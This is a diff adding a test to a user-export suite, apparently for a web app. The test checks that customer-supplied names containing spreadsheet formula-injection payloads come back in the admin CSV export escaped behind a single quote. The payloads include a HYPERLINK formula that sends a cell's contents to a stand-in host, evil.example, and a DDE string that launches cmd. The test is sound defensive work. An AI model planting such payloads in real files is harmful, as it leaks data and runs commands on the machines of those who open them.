@@ -156,6 +156,30 @@ describe('user list', () => {
     expect(everyone.body.trim().split('\n')).toHaveLength(Number(n) + 1)
     expect((await call('GET', '/api/admin/users/export.csv', customer.cookie)).statusCode).toBe(403)
   })
+
+  it('writes a customer-chosen text that a spreadsheet would run as a formula as plain text', async () => {
+    const k = tag()
+    const names = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+    ]
+    const made = []
+    for (const [i, name] of names.entries()) {
+      made.push(await t.createUser({ email: `formula-${i}-${k}@example.com`, name, signIn: false }))
+    }
+    const res = await call('GET', `/api/admin/users/export.csv?q=formula&role=user`)
+    expect(res.statusCode).toBe(200)
+    // Each name comes back whole behind a single quote (quoted and escaped as CSV wants).
+    const { stringify } = await import('csv-stringify/sync')
+    for (const [i, u] of made.entries()) {
+      const cell = stringify([[`'${names[i]}`]]).replace(/\n$/, '')
+      expect(res.body, names[i]).toContain(`${u.id},${u.email},${cell},,user,`)
+    }
+  })
 })
 
 describe('role change', () => {
